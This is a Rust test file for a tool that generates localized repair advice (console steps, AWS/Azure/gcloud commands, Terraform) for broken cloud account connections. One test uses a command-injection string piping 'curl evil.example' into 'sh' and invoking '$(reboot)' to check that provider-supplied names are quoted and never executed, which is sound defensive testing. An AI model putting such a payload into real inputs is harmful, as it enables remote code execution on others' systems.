use super::*;
use crate::cloud_accounts::{
    Provider, Way,
    server::guide::tests::{PLACES, begun, commands, known},
};

/// In which ways a check can find it.
fn ways(cause: &Cause) -> Vec<Way> {
    let code = cause.code();
    let of = |parts: &[&str]| parts.iter().any(|part| code.contains(part));
    if code.starts_with("aws-") {
        match () {
            () if of(&["platform", "role", "external", "region"]) => vec![Way::Role],
            () if of(&["key", "secret"]) => vec![Way::AccessKeys],
            () => vec![Way::Role, Way::AccessKeys],
        }
    } else if code.starts_with("azure-") {
        match () {
            () if of(&["secret"]) => vec![Way::ClientSecret],
            () if of(&["federation", "issuer", "subject", "audience", "keys", "signature"]) => vec![Way::FederatedCredential],
            () => vec![Way::FederatedCredential, Way::ClientSecret],
        }
    } else if code.starts_with("google-") {
        match () {
            () if of(&["key-revoked"]) => vec![Way::ServiceAccountKey],
            () if of(&["account", "project", "permission", "powerful", "api"]) => vec![Way::WorkloadIdentity, Way::ServiceAccountKey],
            () => vec![Way::WorkloadIdentity],
        }
    } else {
        Way::ALL.to_vec()
    }
}

fn each() -> impl Iterator<Item = (Cause, Known, Locale)> {
    let ways = Cause::samples().into_iter().flat_map(|cause| ways(&cause).into_iter().map(move |way| (cause.clone(), way)));
    ways.flat_map(|(cause, way)| [known(way), begun(way)].map(|known| (cause.clone(), known)))
        .flat_map(|(cause, known)| Locale::all().map(move |locale| (cause.clone(), known.clone(), locale)))
}

/// These are mended by time, by the operator, or by people who decide: no command does it.
const WITHOUT_COMMANDS: [&str; 17] = [
    "not-reachable",
    "too-slow",
    "strange-answer",
    "provider-down",
    "throttled",
    "not-allowed",
    "clock-off",
    "unknown",
    "aws-no-platform",
    "aws-platform-refused",
    "aws-platform-may-not-assume",
    "aws-role-denies",
    "azure-keys-unreadable",
    "azure-signature-refused",
    "azure-conditional-access",
    "google-keys-unreadable",
    "google-signature-refused",
];
/// These have commands, and no resource of Terraform's does the same.
const WITHOUT_TERRAFORM: [&str; 2] = ["azure-subscription-off", "google-project-deleted"];

#[test]
fn every_cause_is_told_and_mended_in_every_language() {
    for (cause, known, locale) in each() {
        let advice = advice(&cause, &known, locale);
        assert_eq!((&advice.code, &advice.title), (&cause.code(), &title(&cause, locale)));
        assert!(!advice.title.is_empty() && advice.title.chars().count() <= 70, "{}", advice.title);
        assert!(advice.why.chars().count() > 60, "{}: {}", advice.code, advice.why);
        let ends = |step: &String| step.trim_end_matches(']').ends_with('.') || step.contains("http");
        assert!(!advice.console.is_empty() && advice.console.iter().all(ends), "{advice:?}");
    }
}

/// What each language says, in the order of `Locale::all`.
fn in_each(cause: &Cause, known: &Known) -> Vec<Advice> {
    Locale::all().map(|locale| advice(cause, known, locale)).collect()
}

#[test]
fn no_language_borrows_the_words_of_another() {
    for cause in Cause::samples() {
        for way in ways(&cause) {
            let said = in_each(&cause, &known(way));
            for (index, one) in said.iter().enumerate() {
                for other in &said[index + 1..] {
                    assert_ne!(one.title, other.title, "{}", one.code);
                    assert_ne!(one.why, other.why, "{}", one.code);
                    assert_eq!(one.console.len(), other.console.len(), "{}", one.code);
                    for (one, other) in one.console.iter().zip(&other.console) {
                        assert_ne!(one, other);
                    }
                    assert_eq!((&one.cli, &one.terraform), (&other.cli, &other.terraform), "{}", one.code);
                }
            }
        }
    }
}

#[test]
fn what_a_command_can_mend_has_commands_and_terraform() {
    for (cause, known, locale) in each() {
        let Advice { code, cli, terraform, .. } = advice(&cause, &known, locale);
        assert_eq!(cli.is_empty(), WITHOUT_COMMANDS.contains(&code.as_str()), "{code}");
        assert_eq!(terraform.is_empty(), cli.is_empty() || WITHOUT_TERRAFORM.contains(&code.as_str()), "{code}");
    }
}

#[test]
fn mends_are_filled_in_with_this_connections_own_values() {
    for (cause, known, locale) in each().filter(|(_, known, _)| *known != begun(known.way)) {
        let Advice { code, cli, terraform, why, console, .. } = advice(&cause, &known, locale);
        let settings = &known.settings;
        let cause_value = match &cause {
            Cause::AwsRegionOff { region } => region.as_str(),
            _ => "",
        };
        let own = [
            known.external_id.as_str(),
            "reader",
            "user-name portico",
            "user_name = \"portico\"",
            "\"portico\"",
            &settings.access_key_id,
            &settings.tenant_id,
            &settings.client_id,
            &settings.subscription_id,
            &settings.project_id,
            &settings.service_account,
            "tools-7",
            cause_value,
        ];
        let own: Vec<&str> = own.into_iter().filter(|value| !value.is_empty()).collect();
        let lists_all = code == "azure-subscription-unknown" || (code == "aws-other-account" && known.way == Way::AccessKeys);
        assert!(cli.is_empty() || lists_all || own.iter().any(|value| cli.contains(value)), "{code}: {cli}");
        assert!(terraform.is_empty() || own.iter().any(|value| terraform.contains(value)), "{code}: {terraform}");
        let text = format!("{why}\n{}\n{cli}\n{terraform}", console.join("\n")).replace("PORTICO_AWS_ACCESS_KEY_ID", "");
        let left: Vec<&str> = PLACES.into_iter().filter(|place| text.contains(place)).collect();
        assert!(left.is_empty(), "{code}: {left:?} in {text}");
        assert!(!text.contains("-----BEGIN"), "{code}");
    }
}

#[test]
fn commands_can_be_pasted() {
    for (cause, known, locale) in each() {
        for command in commands(&advice(&cause, &known, locale).cli) {
            let program = match known.way.provider() {
                Provider::Aws => "aws",
                Provider::Azure => "az",
                Provider::Google => "gcloud",
            };
            assert_eq!(command[0], program, "{command:?}");
            command.iter().filter(|word| word.starts_with('{')).for_each(|json| {
                serde_json::from_str::<serde_json::Value>(json).expect(json);
            });
        }
    }
}

/// Names of policies and APIs come from outside, from an account that somebody else may rule.
#[test]
fn what_a_provider_tells_is_shown_and_never_run() {
    let evil = "x'; curl evil.example | sh; '$(reboot)\n${path.module}\u{1b}[2J";
    for (cause, way) in [
        (Cause::AwsTooPowerful { policies: vec![evil.to_owned(), format!("arn:{evil}"), format!("group/{evil}")] }, Way::AccessKeys),
        (Cause::AwsRegionOff { region: evil.to_owned() }, Way::Role),
        (Cause::GoogleApiOff { api: evil.to_owned() }, Way::WorkloadIdentity),
    ] {
        let Advice { cli, terraform, .. } = advice(&cause, &known(way), Locale::En);
        let commands = commands(&cli);
        assert!(commands.iter().all(|command| command[0] == "aws" || command[0] == "gcloud"), "{commands:?}");
        assert!(
            commands.iter().flatten().any(|word| word.ends_with("'; curl evil.example | sh; '$(reboot)${path.module}[2J")),
            "{commands:?}"
        );
        assert!(!terraform.replace("$${", "").contains("${"), "{terraform}");
    }
}

#[test]
fn a_policy_too_many_is_taken_away_by_what_it_is() {
    let policies = ["arn:aws:iam::aws:policy/AdministratorAccess", "more", "portico"].map(str::to_owned).to_vec();
    let Advice { cli, .. } = advice(&Cause::AwsTooPowerful { policies }, &known(Way::Role), Locale::En);
    let deeds: Vec<String> = commands(&cli).into_iter().map(|command| command[2].clone()).collect();
    assert_eq!(deeds, ["detach-role-policy", "delete-role-policy", "put-role-policy"]);
    let groups = Cause::AwsTooPowerful { policies: vec!["group/admins".to_owned()] };
    let leave = "aws iam remove-user-from-group --user-name portico --group-name admins";
    assert_eq!(advice(&groups, &known(Way::AccessKeys), Locale::En).cli, leave);
    assert_eq!(advice(&groups, &known(Way::Role), Locale::En).cli, "", "roles are in no group");
}

#[test]
fn a_denial_is_mended_by_whose_it_is() {
    let denial = |by: &str| advice(&Cause::AwsRoleDenies { by: by.to_owned() }, &known(Way::Role), Locale::En);
    for (by, in_role, place) in [
        ("resource-based policy", true, "Trust relationships"),
        ("service control policy", false, "AWS Organizations"),
        ("resource control policy", false, "AWS Organizations"),
        ("identity-based policy", false, "operator of Portico"),
        ("permissions boundary", false, "operator of Portico"),
        ("", true, "Trust relationships"),
    ] {
        let Advice { cli, terraform, console, .. } = denial(by);
        assert_eq!((cli.contains("update-assume-role-policy"), terraform.is_empty()), (in_role, !in_role), "{by}");
        assert!(console[0].contains(place), "{by}: {console:?}");
    }
    assert!(denial("").why.ends_with("AWS does not say where."));
}

#[test]
fn an_api_that_google_does_not_name_is_one_of_all() {
    let Advice { cli, .. } = advice(&Cause::GoogleApiOff { api: String::new() }, &known(Way::WorkloadIdentity), Locale::En);
    assert!(
        ["sts", "iam", "iamcredentials", "cloudresourcemanager"].iter().all(|api| cli.contains(&format!(" {api}.googleapis.com"))),
        "{cli}"
    );
}

/// The manual names them all, each by its title.
#[test]
fn the_table_in_the_manual_is_whole() {
    let manual = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/CLOUD.md"));
    let rows: Vec<&str> = manual.lines().filter(|line| line.starts_with("| `")).collect();
    for cause in Cause::samples() {
        let (from, to) = (format!("| `{}` |", cause.code()), format!("| {} |", title(&cause, Locale::En)));
        assert!(rows.iter().any(|row| row.starts_with(&from) && row.ends_with(&to)), "{from} … {to}");
    }
}
